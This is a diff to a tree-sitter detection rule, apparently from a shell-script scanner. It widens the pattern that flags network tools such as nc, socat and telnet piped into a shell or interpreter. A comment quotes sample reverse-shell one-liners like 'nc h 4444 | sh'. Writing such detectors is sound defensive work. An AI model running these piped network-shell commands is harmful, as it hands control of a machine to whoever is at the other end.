@@ -28,7 +28,7 @@
  (#set! message "connects a shell to the network (a reverse or bind shell): whoever is at the other end controls the machine"))
 
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
-((pipeline (_) @src [(command) (redirected_statement)] @sink) @finding
+((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sink) (compound_statement (command) @sink)] @sink) @finding
  (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
  (#set! id "sh-network-shell")
